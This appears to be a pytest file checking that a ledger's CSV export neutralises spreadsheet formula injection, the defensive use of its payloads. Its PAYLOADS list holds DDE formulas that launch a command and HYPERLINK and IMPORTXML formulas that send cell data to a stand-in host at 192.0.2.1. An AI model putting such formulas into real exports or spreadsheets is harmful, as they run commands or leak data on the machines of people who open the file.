"""A CSV file is opened in spreadsheets, which run what begins like a formula."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backups.ledger.csv_file import COLUMNS, csv_cells, csv_lines, guarded, unguarded
from backups.ledger.record import World
from tests.ledger.event_samples import sample

STARTS = "=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20"
#: OWASP's "CSV Injection", and what was found in the wild since.
PAYLOADS = (
    '=cmd|\'/C calc\'!A0', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"Click")', '=IMPORTXML(CONCAT("http://192.0.2.1/?v=",A1),"//a")',
    "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)", " =1+1",
    "\u3000=1+1", "\u00a0@x",
    '";=1+1', '",=1+1,"', "a\r\n=1+1", "'=1+1", "''", "'", '"', "", ";", "DDE(\"cmd\";\"/C calc\";\"x\")",
)  # fmt: skip


def read_back(line: bytes) -> list[str]:
    (row,) = csv.reader(io.StringIO(line.decode("utf-8"), newline=""), strict=True)
    return row


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_begins_a_cell_and_none_is_lost(payload: str):
    row = read_back(csv_lines([["before", payload, "after"]]))
    assert [unguarded(cell) for cell in row] == ["before", payload, "after"]
    assert not row[1].lstrip(" \u3000\u00a0").startswith(tuple(STARTS))


@given(st.lists(st.text(st.characters(codec="utf-8")), min_size=1, max_size=6))
def test_any_cells_come_back_as_they_were(cells: list[str]):
    line = csv_lines([cells])
    assert line.endswith(b"\r\n")
    row = read_back(line)
    assert [unguarded(cell) for cell in row] == cells
    assert not any(cell.startswith(tuple(STARTS)) for cell in row)


@given(st.sampled_from(STARTS), st.text(st.characters(codec="utf-8")))
def test_whatever_follows_a_dangerous_beginning(start: str, rest: str):
    assert guarded(start + rest) == "'" + start + rest


def test_an_event_has_one_cell_for_each_column():
    cells = csv_cells(
        sample("request.edited", world=World.SANDBOX), actor_name="=bob", meaning="A request was changed", place=3,
        leaf_hash=b"\x01" * 32,
    )  # fmt: skip
    row = dict(zip(COLUMNS, read_back(csv_lines([cells])), strict=True))
    assert row["actor_name"] == "'=bob"
    assert row["evidence"] == "no: sandbox"
    assert (row["place"], row["recorded_at"][:10], row["target"]) == ("3", "2026-11-26", "R-0007")
    assert '"operation_ids"' not in row["details"]
    assert csv_cells(sample("access.logout"), actor_name="", meaning="", place=None, leaf_hash=None)[0] == ""
